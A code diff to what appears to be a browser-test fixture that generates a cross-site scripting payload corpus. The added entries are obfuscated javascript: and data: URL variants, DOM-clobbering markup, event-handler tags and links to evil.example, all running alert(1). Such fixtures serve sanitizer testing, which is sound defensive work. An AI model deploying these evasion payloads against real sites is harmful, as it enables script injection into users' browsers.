@@ -1,4 +1,4 @@
-"""Hundreds of ways to make a page run what an author wrote, made from the classes that are known: every tag that acts with
+"""A thousand ways to make a page run what an author wrote, made from the classes that are known: every tag that acts with
 every way to write it, foreign namespaces, what parsers mend into something else, addresses, entities, signs of Unicode.
 """
 
@@ -7,6 +7,8 @@ from __future__ import annotations
 import html
 from collections.abc import Iterator
 from itertools import product
+
+from tests.browser.payload_lists import CLOBBERING, EVENTS, FETCHED, LETTERS, MARKDOWN, MUTATED
 
 RUN = "alert(1)"
 HANDLERS = (
@@ -133,6 +135,22 @@ SCHEMES = (
     "feed:javascript:{}",
     "blob:{}",
     "filesystem:{}",
+    "\x19javascript:{}",
+    "\u3000javascript:{}",
+    "java\x00script:{}",
+    "java\rscript:{}",
+    "javascript\t:{}",
+    "&Tab;java&NewLine;script&colon;{}",
+    "&#1;&#x6A&#x61&#118ascript:{}",
+    "javascript\uff1a{}",
+    "jаvascript:{}",
+    "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:text/html;charset=utf-7,+ADw-script+AD4-{}",
+    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
+    "https://e.invalid/?x=javascript:{}",
+    "ws://evil.example/{}",
+    "intent://evil.example/{}#Intent;scheme=javascript;end",
+    "weixin://dl/{}",
     "//evil.example/{}",
     "\\\\evil.example\\{}",
 )
@@ -191,8 +209,18 @@ def _obfuscated() -> Iterator[str]:
         yield from (write(tag) for write in WRITTEN)
 
 
+def _named() -> Iterator[str]:
+    """Elements that take the place of what scripts ask for by name."""
+    for name in CLOBBERING.split():
+        yield f"<a id={name}><a id={name} name=url href=data:,{RUN}>"
+        yield f"<form name={name}><output id={name}>{RUN}</output><input name=action></form>"
+        yield f"## {name}\n\n[点](#{name})<img name={name} src=x onerror={RUN}>"
+
+
 def corpus() -> list[str]:
     """All of them, each once."""
     links = (place.format(scheme.format(RUN)) for scheme, place in product(SCHEMES, PLACES))
-    others = (pattern.format(RUN) for pattern in (*FOREIGN, *SIGNS))
-    return list(dict.fromkeys([*_handlers(), *_obfuscated(), *others, *links]))
+    patterns = (*FOREIGN, *SIGNS, *MUTATED, *FETCHED, *MARKDOWN, *LETTERS)
+    others = (pattern.replace("{}", RUN).replace("{{", "{").replace("}}", "}") for pattern in patterns)
+    events = (f"<b on{name}={RUN} tabindex=1 contenteditable>点</b>" for name in EVENTS.split())
+    return list(dict.fromkeys([*_handlers(), *_obfuscated(), *others, *_named(), *events, *links]))
